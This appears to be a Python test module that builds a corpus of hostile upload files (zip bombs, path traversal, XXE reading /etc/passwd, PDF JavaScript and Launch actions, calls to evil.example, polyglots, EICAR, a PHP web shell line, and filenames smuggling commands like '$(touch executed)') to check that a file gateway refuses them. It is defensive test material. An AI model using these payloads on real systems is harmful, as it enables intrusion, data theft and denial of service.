# ruff: noqa: E501 - a row of the corpus is read across
"""The corpus of hostile files (reliability goal S5), each made by code: what it is called, its bytes, what must happen.

What must happen is a refusal's code, or KEPT: the content is harmless where it is served, or only its name was hostile.
"""

import os
import struct
import unicodedata
from collections.abc import Callable
from typing import NamedTuple

from tests.gateways.plain_files import TEXT, TYPES, WORD, chunk, docx, jpeg, pdf, png, segment, stream, xlsx
from tests.gateways.plain_files import relations as refers
from tests.gateways.plain_files import zipped as zip_of

KEPT = "kept"
MEGABYTE = 1024 * 1024
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>document.title='EXECUTED';fetch('/executed')</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=\"EXECUTED\"'>" + SCRIPT + b"</svg>"
GIF = (
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
)


class Hostile(NamedTuple):
    """One file of the corpus."""

    name: str
    make: Callable[[], bytes]
    answer: str


def _js(name: bytes = b"/JavaScript") -> bytes:
    return b"<< /S " + name + b" /JS (app.alert\\(1\\)) >>"


def _lying_zip() -> bytes:
    """A part whose directory says 10 bytes while a megabyte comes out."""
    whole = docx({"word/a.xml": b"<a>" + b"a" * MEGABYTE + b"</a>"})
    return whole.replace(struct.pack("<I", MEGABYTE + 7), struct.pack("<I", 10))


def _locked_zip() -> bytes:
    """The encryption flag set on every part."""
    whole = bytearray(docx())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(sign)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(sign, at + 4)
    return bytes(whole)


def _quine_like(depth: int) -> bytes:
    held = b"\0" * MEGABYTE
    for level in range(depth):
        held = zip_of({f"{level}.zip": held})
    return held


def _twice() -> bytes:
    """Two parts of one name: a checker may read the first, an office program the last."""
    return docx({"word/DOCUMENT.xml": TEXT})


CORPUS: tuple[Hostile, ...] = (
    # archives
    Hostile("bomb.zip", lambda: zip_of({"a": bytes(20 * MEGABYTE)}), "file_bomb"),
    Hostile("bomb.docx", lambda: docx({"word/media/a.bmp": bytes(60 * MEGABYTE)}), "file_bomb"),
    Hostile("slow-bomb.docx", lambda: docx({f"word/{n}.xml": b"<a>" + os.urandom(64).hex().encode() * 8000 + b"</a>" for n in range(150)}), "file_bomb"),
    Hostile("nested.zip", lambda: _quine_like(4), "file_kind"),
    Hostile("nested.docx", lambda: docx({"word/media/inner.png": _quine_like(3)}), "file_hides_archive"),
    Hostile("many.docx", lambda: docx({f"word/{number}.xml": b"<a/>" for number in range(3500)}), "file_bomb"),
    Hostile("lying.docx", _lying_zip, "file_broken"),
    Hostile("locked.docx", _locked_zip, "file_locked"),
    Hostile("locked.zip", lambda: _locked_zip().replace(b"word/document.xml", b"word/documenx.xml"), "file_locked"),
    Hostile("traversal.docx", lambda: docx({"../../../var/evil.xml": b"<a/>"}), "file_broken"),
    Hostile("absolute.docx", lambda: docx({"/etc/cron.d/evil": b"* * * * * root id"}), "file_broken"),
    Hostile("drive.docx", lambda: docx({"C:/Windows/evil.xml": b"<a/>"}), "file_broken"),
    Hostile("backslash.docx", lambda: docx({"..\\..\\evil.xml": b"<a/>"}).replace(b"../../evil", b"..\\..\\evil"), "file_broken"),
    Hostile("twice.docx", _twice, "file_broken"),
    Hostile("truncated.docx", lambda: docx()[:-30], "file_broken"),
    Hostile("only-head.docx", lambda: b"PK\x03\x04", "file_broken"),
    Hostile("plain.zip", lambda: zip_of({"a.txt": b"hello"}), "file_kind"),
    Hostile("app.apk", lambda: zip_of({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035"}), "file_kind"),
    Hostile("library.jar", lambda: zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}), "file_kind"),
    # office documents
    Hostile("macro.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(64)}), "file_active"),
    Hostile("macro-renamed.docx", lambda: docx({"word/media/picture.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)}), "file_hides_archive"),
    Hostile("activex.xlsx", lambda: xlsx({"xl/activeX/activeX1.xml": b"<a/>"}), "file_active"),
    Hostile("xl4.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}), "file_active"),
    Hostile("ole.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "file_active"),
    Hostile("program.docx", lambda: docx({"word/media/a.png": b"MZ\x90\0" + bytes(100)}), "file_hides_archive"),
    Hostile("template.docx", lambda: docx({"word/_rels/settings.xml.rels": refers("attachedTemplate", "http://evil.example/a.dotm")}), "file_active"),
    Hostile("frame.docx", lambda: docx({"word/_rels/document.xml.rels": refers("frame", "file://evil/share")}), "file_active"),
    Hostile("far-picture.docx", lambda: docx({"word/_rels/document.xml.rels": refers("image", "http://evil.example/track.png")}), "file_active"),
    Hostile("escaped-far.docx", lambda: docx({"word/_rels/document.xml.rels": refers("oleObject", "http://evil", "&#69;xternal")}), "file_active"),
    Hostile("utf16-far.docx", lambda: docx({"word/_rels/document.xml.rels": refers("oleObject", "http://evil").decode().replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16")}), "file_active"),
    Hostile("laughs.docx", lambda: docx(text=b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'), "file_active"),
    Hostile("outside-entity.docx", lambda: docx(text=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "file_active"),
    Hostile("utf16-doctype.docx", lambda: docx(text='<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a []><a/>'.encode("utf-16")), "file_active"),
    Hostile("not-xml.docx", lambda: docx(text=HTML[:40] + b"\x00\x01"), "file_active"),
    Hostile("nothing-inside.docx", lambda: zip_of({"[Content_Types].xml": TYPES}), "file_kind"),
    Hostile("no-types.docx", lambda: zip_of({WORD: TEXT}), "file_kind"),
    # PDF
    Hostile("script.pdf", lambda: pdf(_js(), catalog=b"/OpenAction 4 0 R"), "file_active"),
    Hostile("escaped-script.pdf", lambda: pdf(_js(b"/J#61vaScrip#74"), catalog=b"/OpenAction 4 0 R"), "file_active"),
    Hostile("packed-script.pdf", lambda: pdf(stream(b"5 0 " + _js(), b"/Type /ObjStm /N 1 /First 4")), "file_active"),
    Hostile("unmarked-packed-script.pdf", lambda: pdf(stream(b"5 0 " + _js(), b"/Type 9 0 R")), "file_active"),
    Hostile("script-at-a-border.pdf", lambda: pdf(stream(b" " * (256 * 1024 - 5) + _js(), b"/Type /ObjStm")), "file_active"),
    Hostile("launch.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R"), "file_active"),
    Hostile("embedded.pdf", lambda: pdf(stream(b"MZ", b"/Type /EmbeddedFile")), "file_active"),
    Hostile("sends.pdf", lambda: pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), "file_active"),
    Hostile("film.pdf", lambda: pdf(b"<< /Subtype /RichMedia >>"), "file_active"),
    Hostile("locked.pdf", lambda: pdf(b"<< /Filter /Standard /V 5 >>", trailer=b"/Encrypt 4 0 R"), "file_locked"),
    Hostile("bomb.pdf", lambda: pdf(stream(bytes(130 * MEGABYTE), b"/Type /ObjStm")), "file_bomb"),
    Hostile("bombs.pdf", lambda: pdf(*[stream(bytes(9 * MEGABYTE)) for _ in range(12)]), "file_bomb"),
    Hostile("broken-pack.pdf", lambda: pdf(stream(b"not compressed at all", b"/Type /ObjStm /Filter /FlateDecode", packed=False)), "file_broken"),
    Hostile("truncated.pdf", lambda: pdf()[:-40], "file_broken"),
    Hostile("head-only.pdf", lambda: b"%PDF-1.7\n", "file_broken"),
    Hostile("html-first.pdf", lambda: HTML + pdf(), "file_kind"),
    Hostile("blank-first.pdf", lambda: b"\n\n" + pdf(), "file_kind"),
    Hostile("pdf-and-zip.pdf", lambda: pdf(tail=zip_of({"evil.class": b"\xca\xfe\xba\xbe"})), "file_hides_archive"),
    Hostile("pdf-and-small-zip.pdf", lambda: pdf(tail=b"PK\x05\x06" + bytes(18)), "file_hides_archive"),
    Hostile("html-as.pdf", lambda: HTML, "file_kind"),
    Hostile("polyglot-script.pdf", lambda: pdf(stream(SCRIPT + b"/*", packed=False)), KEPT),
    Hostile("pdf-html-tail.pdf", lambda: pdf(tail=HTML), KEPT),
    # pictures
    Hostile("svg.svg", lambda: SVG, "file_kind"),
    Hostile("svg-as.png", lambda: SVG, "file_kind"),
    Hostile("gifar.gif", lambda: GIF + zip_of({"X.class": b"\xca\xfe\xba\xbe"}), "file_kind"),
    Hostile("jpegar.jpg", lambda: jpeg(tail=zip_of({"X.class": b"\xca\xfe\xba\xbe"})), "file_hides_archive"),
    Hostile("pngar.png", lambda: png(tail=zip_of({"X.class": b"\xca\xfe\xba\xbe"})), "file_hides_archive"),
    Hostile("huge.png", lambda: png(60000, 60000), "file_pixels"),
    Hostile("huge.jpg", lambda: jpeg(65535, 65535), "file_pixels"),
    Hostile("none.png", lambda: png(0, 5), "file_broken"),
    Hostile("giant-chunk.png", lambda: png()[:8] + struct.pack(">I", 0x7FFFFFFF) + b"IHDR" + bytes(30), "file_broken"),
    Hostile("wrong-check.png", lambda: png()[:-2] + b"\0\0", "file_broken"),
    Hostile("truncated.png", lambda: png()[:40], "file_broken"),
    Hostile("truncated.jpg", lambda: jpeg()[:-2], "file_broken"),
    Hostile("endless.jpg", lambda: b"\xff\xd8\xff" + b"\xff" * 100_000, "file_broken"),
    Hostile("script-in-comment.jpg", lambda: jpeg(more=segment(0xFE, SCRIPT)), KEPT),
    Hostile("script-in-text.png", lambda: png(2, 2, chunk(b"tEXt", b"Comment\0" + SCRIPT)), KEPT),
    Hostile("script-behind.png", lambda: png(tail=HTML), KEPT),
    Hostile("text-bomb.png", lambda: png(2, 2, chunk(b"zTXt", b"a\0\0" + stream(bytes(50 * MEGABYTE))[60:])), KEPT),
    Hostile("tiff.jpg", lambda: b"II*\0" + bytes(40), "file_kind"),
    # others
    Hostile("nothing.pdf", lambda: b"", "file_empty"),
    Hostile("too-large.pdf", lambda: bytes(20 * MEGABYTE + 1), "file_too_large"),
    Hostile("eicar.com", lambda: EICAR, "file_kind"),
    Hostile("eicar.zip", lambda: zip_of({"eicar.com": EICAR}), "file_kind"),
    Hostile("program.pdf", lambda: b"MZ\x90\0" + bytes(200), "file_kind"),
    Hostile("elf.jpg", lambda: b"\x7fELF" + bytes(200), "file_kind"),
    Hostile("shell.pdf", lambda: b"#!/bin/sh\ntouch executed\n", "file_kind"),
    Hostile("page.php", lambda: b"<?php system($_GET['c']); ?>", "file_kind"),
    Hostile("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "file_kind"),
    Hostile("letter.rtf", lambda: b"{\\rtf1\\object\\objdata 0105}", "file_kind"),
    Hostile("random.bin", lambda: os.urandom(5000), "file_kind"),
    # only the name is hostile
    Hostile("../../../../var/evil.pdf", pdf, KEPT),
    Hostile("/etc/passwd", pdf, KEPT),
    Hostile("C:\\Windows\\System32\\evil.pdf", pdf, KEPT),
    Hostile("..\\..\\evil.pdf", pdf, KEPT),
    Hostile("anh\u202efdp.exe", png, KEPT),
    Hostile("a\0.pdf", pdf, KEPT),
    Hostile("a\r\nSet-Cookie: x=1.pdf", pdf, KEPT),
    Hostile('"><script>alert(1)</script>.pdf', pdf, KEPT),
    Hostile(unicodedata.normalize("NFD", "Đơn xin cấp lại giấy chứng nhận quyền sử dụng đất " * 6) + ".pdf", pdf, KEPT),
    Hostile("CON.pdf", pdf, KEPT),
    Hostile("lpt1.tar.pdf", pdf, KEPT),
    Hostile("....", pdf, KEPT),
    Hostile("", pdf, KEPT),
    Hostile("report.pdf.exe", pdf, KEPT),
    Hostile("a.pdf::$DATA", pdf, KEPT),
    Hostile("$(touch executed).pdf", pdf, KEPT),
    Hostile("-rf.pdf", pdf, KEPT),
)  # fmt: skip
